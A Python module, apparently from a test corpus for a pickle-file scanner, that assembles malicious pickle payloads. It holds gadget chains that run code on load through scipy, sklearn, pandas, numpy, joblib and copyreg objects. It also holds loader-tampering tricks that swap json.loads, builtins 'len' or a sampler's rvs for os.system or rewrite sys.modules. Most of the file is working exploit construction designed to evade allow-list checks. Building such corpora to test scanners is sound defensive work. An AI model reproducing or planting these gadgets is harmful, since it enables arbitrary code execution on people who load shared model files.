"""Attacks made of names that honest models need: what is denied is at most a value, the harm is in the composition."""

from __future__ import annotations

from typing import Any, Final

from .assembly import Attack, Call, Calls, Name, Payload, Raw, built, new, of_calls, push, stream

_TEMPLATE: Final = "_parse_arg_template"
_NORMAL: Final = "scipy.stats._continuous_distns:norm_gen"
_POISSON: Final = "scipy.stats._discrete_distns:poisson_gen"
_LOGISTIC: Final = Name("sklearn.linear_model._logistic:LogisticRegression")
_MAKES_FOLDER: Final = Name("sklearn.utils.validation:check_memory")
"""A function that is only ever named, as a value, in honest files; called with a path it makes that folder."""


def _with_template(path: str, template: str) -> Raw:
    return new(path, state={_TEMPLATE: template})


def _reconstructed(path: str, state: Any) -> Call:
    return Call("copyreg:_reconstructor", Name(path), Name(path), state)


def later(payload: Payload) -> Call:
    """A function of any argument that runs the payload: both parts are names that honest models hold as values."""
    return Call("functools:partial", Name("sklearn.feature_extraction.text:_analyze"), payload.marker, _MAKES_FOLDER)


def _answers(payload: Payload, name: str) -> Raw:
    return built(Call("types:SimpleNamespace"), {name: later(payload)})


RUNS: Final[Calls] = {
    "scipy distribution": lambda p: _with_template(_NORMAL, p.code),
    "scipy distribution by copyreg": lambda p: built(Call("copyreg:__newobj__", Name(_NORMAL)), {_TEMPLATE: p.code}),
    "scipy distribution by a Cython constructor": lambda p: built(
        Call("sklearn.neighbors._kd_tree:newObj", Name(_NORMAL)), {_TEMPLATE: p.code}
    ),
    "scipy distribution by pandas": lambda p: built(
        Call("pandas.core.indexes.base:_new_Index", Name(_NORMAL), {"data": 1, "dtype": 1}), {_TEMPLATE: p.code}
    ),
    "scipy distribution, in a default": lambda p: _with_template(_POISSON, f"def f(a={p.code}):\n    return a"),
    "scipy distribution, in a decorator": lambda p: _with_template(
        _POISSON, f"@(lambda f, x={p.code}: f)\ndef f():\n    return 1"
    ),
    "scipy distribution, in an annotation": lambda p: _with_template(_POISSON, f"def f(a: {p.code}):\n    return a"),
    "scipy distribution, state of pairs": lambda p: new(_NORMAL, state=[(_TEMPLATE, p.code)]),
    "_reconstructor of a cache": lambda p: _reconstructed("joblib.memory:Memory", p.marker),
    "_reconstructor of a log": lambda p: _reconstructed("joblib.logger:PrintTime", p.marker),
    "pool that acts when it is freed": lambda p: Raw(
        push(
            new(
                "joblib.pool:PicklingPool",
                state={"_state": "RUN", "_pool": [], "_change_notifier": _answers(p, "put")},
            )
        )
        + b"0N"
    ),
    "index of what answers as an array, among many attributes": lambda p: new(
        "pandas:Index",
        built(Call("types:SimpleNamespace"), {**{f"a{at}": at for at in range(100)}, "__array__": later(p)}),
    ),
    "index of what answers as an array": lambda p: new("pandas:Index", _answers(p, "__array__")),
    "numpy generator constructor": lambda p: Call("numpy.random._pickle:__generator_ctor", p.marker, _MAKES_FOLDER),
    "numpy state constructor": lambda p: Call("numpy.random._pickle:__randomstate_ctor", p.marker, _MAKES_FOLDER),
}
"""What runs a payload when it is loaded."""

CHANGES: Final[Calls] = {
    "attribute of a logger": lambda p: built(Call("logging:getLogger", "x"), {"disabled": True}),
    "attribute of a listed class": lambda p: built(_LOGISTIC, {"fit": p.code}),
    "attribute of a listed function": lambda p: built(Name("numpy._core.multiarray:_reconstruct"), {"x": p.code}),
    "slots of a listed class": lambda p: built(_LOGISTIC, (None, {"fit": Name("os:system")})),
    "item of sys.modules": lambda p: Raw(push(Name("sys:modules")) + push("json") + push(Name("os:path")) + b"s"),
    "items of builtins": lambda p: Raw(
        push(Name("builtins:__dict__")) + b"(" + push("len") + push(Name("os:system")) + b"u"
    ),
    "setattr of a module": lambda p: Call(
        "builtins:setattr", Call("importlib:import_module", "json"), "loads", Name("os:system")
    ),
    "__setattr__ of a module": lambda p: Call(
        "types:ModuleType.__setattr__", Call("importlib:import_module", "json"), "x", 1
    ),
    "class made by type": lambda p: new("builtins:type", "X", (Name("builtins:object"),), {"__reduce__": p.code}),
    "class made by types": lambda p: Call("types:new_class", "X", (Name("builtins:object"),)),
    "list of a sampler": lambda p: Call(
        "builtins:list",
        new(
            "sklearn.model_selection._search:ParameterSampler",
            state={"param_distributions": [{"a": built(Call("types:SimpleNamespace"), {"rvs": Name("os:system")})}]},
        ),
    ),
}
"""What changes the loading process and touches no file: the harm comes later, in honest code (ShadowPickle)."""


def attacks() -> list[Attack]:
    """One file for each."""
    return [
        *of_calls("gadgets", RUNS),
        *of_calls("gadgets", CHANGES, loader=""),
        Attack("scipy distribution, behind many entries", "gadgets", _behind_many_entries, expected="UNKNOWN"),
        Attack("key that can be called", "gadgets", _callable_key, expected="UNKNOWN"),
    ]


def _behind_many_entries(payload: Payload) -> bytes:
    state = {**{f"a{index}": index for index in range(500)}, _TEMPLATE: payload.code}
    return stream(new(_NORMAL, state=state))


def _callable_key(payload: Payload) -> bytes:
    """`DataFrame.__setitem__` calls a key that can be called, and gives it the frame as one more argument."""
    return stream(Raw(push(new("pandas:DataFrame")) + push(later(payload)) + push(1) + b"s"))
